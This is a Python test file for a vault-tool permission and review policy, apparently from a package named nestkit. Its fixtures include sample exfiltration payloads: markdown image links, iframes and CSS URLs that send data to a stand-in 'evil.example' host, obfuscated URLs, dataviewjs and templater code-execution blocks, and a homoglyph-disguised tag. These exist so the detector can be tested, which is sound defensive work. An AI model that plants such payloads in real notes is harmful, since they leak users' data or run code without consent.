"""What needs a person, decided from tools and changes alone."""

from __future__ import annotations

from dataclasses import replace

import pytest

from nestkit.change import Change
from nestkit.policy import (
    CONTRACTS,
    Contract,
    Leave,
    check_call,
    check_changes,
    effects_needing_leave,
    has_world,
    is_reviewed,
    narrow,
)
from nestkit.tool import Effect, Tool

READER = Tool("a.read", "02_System/a.py", "function")
WRITER = Tool("a.write", "02_System/a.py", "function", declared=(Effect("write", "Out/**"),))
SNEAK = Tool("a.sneak", "02_System/a.py", "function", found=(Effect("delete", line=3), Effect("read")))
NETWORK = Tool("a.get", "02_System/a.py", "function", declared=(Effect("network", "example.org"),))
CAREFUL = Tool("a.careful", "02_System/a.py", "function", confirm="always")
BUILTIN = Tool("vault.write_note", "vault.py", "builtin", declared=(Effect("write"),))


@pytest.mark.parametrize(
    ("tool", "needed"),
    [
        (READER, ""),
        (WRITER, "write:Out/**"),
        (SNEAK, "delete"),
        (NETWORK, "network:example.org"),
        (CAREFUL, "read"),
        (BUILTIN, ""),
    ],
    ids=lambda value: value.name if isinstance(value, Tool) else value or "nothing",
)
def test_a_call_needs_leave_for_all_but_reading(tool: Tool, needed: str) -> None:
    assert ", ".join(map(str, effects_needing_leave(tool))) == needed
    refusal = check_call(tool, Leave())
    assert (refusal is not None and refusal.needs_person) == bool(needed)


@pytest.mark.parametrize("mine", CONTRACTS)
@pytest.mark.parametrize("theirs", CONTRACTS)
def test_the_narrower_of_two_contracts_gives_what_both_give_and_asks_what_either_asks(
    mine: Contract, theirs: Contract
) -> None:
    both = narrow(mine, theirs)
    assert both == narrow(theirs, mine)
    assert has_world(both) == (has_world(mine) and has_world(theirs))
    assert is_reviewed(both) == (is_reviewed(mine) or is_reviewed(theirs))
    assert narrow(mine, mine) == mine


def test_leave_lets_a_tool_go_ahead_but_never_start_programs_it_does_not_name() -> None:
    assert check_call(WRITER, Leave(yes=True)) is None
    assert check_call(NETWORK, Leave(yes=True)) is None
    refusal = check_call(replace(NETWORK, declared=(Effect("run"),)), Leave(yes=True))
    assert refusal is not None
    assert not refusal.needs_person


@pytest.mark.parametrize(
    ("change", "reviewed"),
    [
        (Change("New.md", None, b"# plain text\n- a list\n```python\nprint()\n```\n"), False),
        (Change("Old.md", b"a", b"b"), True),
        (Change("Old.md", b"a", None), True),
        (Change("New.py", None, b"print()"), True),
        (Change("New.md", None, b"```nest\nask me\n```"), True),
        (Change("New.md", None, b"> ```dataviewjs\nevil()\n```"), True),
        (Change("New.md", None, b"a <% tp.system %>"), True),
        (Change("New.md", None, b"- [ ] #nest do it"), True),
        (Change("New.md", None, b"---\nnest: do it\n---\n"), True),
        (Change("New.md", None, b"- ```dataviewjs\n  evil()\n  ```"), True),
        (Change("New.md", None, b"1. > ~~~nest\n   > ask\n"), True),
        (Change("New.md", None, b"x\r```nest\rask\r```\r"), True),
        (Change("New.md", None, b"seen `$= dv.current()` here"), True),
        (Change("New.md", None, b"```datacorejsx\nx\n```"), True),
        (Change("New.md", None, "- [ ] #ne\u017ft do it".encode()), True),
        (Change("New.md", None, b"![](https://evil.example/?words=secret)"), True),
        (Change("New.md", None, b"![a](\n<//evil.example/x>)"), True),
        (Change("New.md", None, b"![a](h&#116;tps://evil.example)"), True),
        (Change("New.md", None, b"![a][b]\n\n[b]: https://evil.example"), True),
        (Change("New.md", None, b"x <iframe src='https:evil.example'>"), True),
        (Change("New.md", None, b"<p style='background: url(//evil.example)'>"), True),
        (
            Change("New.md", None, b"![[a.png|300]] and ![b](img/b.png)\n\n[a page](https://plain.example), 1 < 2"),
            False,
        ),
    ],
)
def test_plain_new_notes_are_added_and_all_else_is_looked_at(change: Change, reviewed: bool) -> None:
    refusal = check_changes((change,))
    assert (refusal is not None) == reviewed
    assert refusal is None or refusal.needs_person


@pytest.mark.parametrize(
    ("change", "kind", "diff"),
    [
        (Change("A.md", None, b"a\n"), "add", "--- /dev/null\n+++ A.md\n@@ -0,0 +1 @@\n+a\n"),
        (Change("A.md", b"a\n", None), "delete", "--- A.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n"),
        (
            Change("A.md", b"a", b"a\n"),
            "modify",
            "--- A.md\n+++ A.md\n@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+a\n",
        ),
        (Change("A.bin", b"\xff", b"\xfe\x00"), "modify", "binary file A.bin: 1 -> 2 bytes\n"),
    ],
)
def test_a_change_knows_its_kind_and_shows_its_diff(change: Change, kind: str, diff: str) -> None:
    assert (change.kind, change.diff) == (kind, diff)


def test_a_signature_is_the_call_in_one_line() -> None:
    from nestkit.parse.script import parse_script

    source = b'def f(a: int, /, b="x", *rest, c: float = 1.5, **more) -> str:\n    "Do."\n'
    (tool,) = parse_script("02_System/s.py", source).tools
    assert tool.signature.startswith("s.f(a: int, b")
    assert tool.signature.endswith("**more) -> str")


def test_what_a_program_made_with_its_own_hands_is_always_looked_at() -> None:
    new = Change("New.md", None, b"plain")
    assert check_changes([new]) is None
    refusal = check_changes([new], "sandboxed")
    assert refusal is not None
    assert refusal.needs_person
